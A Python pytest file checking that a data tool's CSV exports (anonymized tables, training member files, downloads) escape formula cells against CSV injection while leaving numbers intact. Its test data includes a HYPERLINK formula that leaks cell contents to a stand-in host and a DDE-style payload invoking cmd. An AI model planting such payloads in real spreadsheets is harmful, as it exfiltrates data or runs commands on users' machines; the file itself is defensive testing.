"""Every CSV the tool writes escapes formula cells (CSV injection, OWASP); numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from analysis.cli import main
from analysis.csv_export import safe_csv_bytes
from analysis.tables import load_table

FORMULAS = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1", "-2", "\t=1", "\r=1"]


@pytest.fixture
def hostile_csv(tmp_path):
    """40 rows: a text column of formula cells (and plain text), a numeric column with -5, an email."""
    n = 40
    frame = pd.DataFrame({
        "comment": [FORMULAS[i % len(FORMULAS)] if i % 2 == 0 else f"plain note {i}" for i in range(n)],
        "balance": [-5 if i % 4 == 0 else i for i in range(n)],
        "score": [-2.5 if i % 3 == 0 else i / 10 for i in range(n)],
        "email": [f"user{i}@example.org" for i in range(n)],
        "label": ["yes" if i % 2 else "no" for i in range(n)],
    })
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)  # a hostile input file, written by the test itself
    return path, load_table(path).frame  # the cells as the tool reads them (the loader trims whitespace)


def _rows(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _assert_escaped(rows, frame) -> None:
    """Each comment cell as a spreadsheet would see it: formulas start with ', plain text unchanged;
    the numeric cells are the plain numbers (-5 stays -5, -2.5 stays -2.5)."""
    assert rows, "no rows written"
    by_email = {r["email"]: r for r in rows}
    for original in frame.itertuples(index=False):
        row = by_email.get(original.email)
        if row is None:  # the plan may drop rows; the rest must be escaped
            continue
        if original.comment.startswith(("=", "+", "-", "@")):
            assert row["comment"] == "'" + original.comment
        else:
            assert row["comment"] == original.comment
        assert row["balance"] == str(original.balance)
        assert float(row["score"]) == original.score and not row["score"].startswith("'")
    assert any(r["balance"] == "-5" for r in rows)
    assert sum(r["comment"].startswith("'") for r in rows) >= 8


def test_anonymized_table_escapes_formula_cells(hostile_csv, tmp_path, monkeypatch):
    path, frame = hostile_csv
    plan = tmp_path / "plan.yaml"
    plan.write_text("version: 1\ncolumns:\n  label:\n    operator: keep\n", encoding="utf-8")
    out = tmp_path / "anonymized.csv"
    monkeypatch.delenv("PRIVACY_AUDIT_SECRET", raising=False)
    assert main(["anonymize", str(path), "--plan", str(plan), "--out", str(out)]) == 0
    _assert_escaped(_rows(out), frame)


def test_train_member_files_escape_formula_cells(hostile_csv, tmp_path):
    path, frame = hostile_csv
    members, non_members = tmp_path / "members.csv", tmp_path / "non_members.csv"
    assert main(["train", str(path), "--label", "label", "--recipe", "logistic_regression",
                 "--out", str(tmp_path / "model.skops"), "--members-out", str(members),
                 "--non-members-out", str(non_members)]) == 0
    written = _rows(members) + _rows(non_members)
    assert len(written) == len(frame)
    _assert_escaped(written, frame)


def test_download_bytes_escape_text_cells_and_names_but_not_numbers():
    frame = pd.DataFrame({
        "=cmd": pd.Series(["=1+1", "ok"], dtype="str"),              # pandas 3 text dtype, and a header
        "kind": pd.Categorical(["@SUM(A1)", "b"]),
        "mixed": pd.Series(["-x", -5], dtype=object),                  # a number in a text column stays one
        "n": [-5, 3],
    })
    rows = list(csv.reader(io.StringIO(safe_csv_bytes(frame).decode("utf-8"))))
    assert rows == [["'=cmd", "kind", "mixed", "n"],
                    ["'=1+1", "'@SUM(A1)", "'-x", "-5"],
                    ["ok", "b", "-5", "3"]]
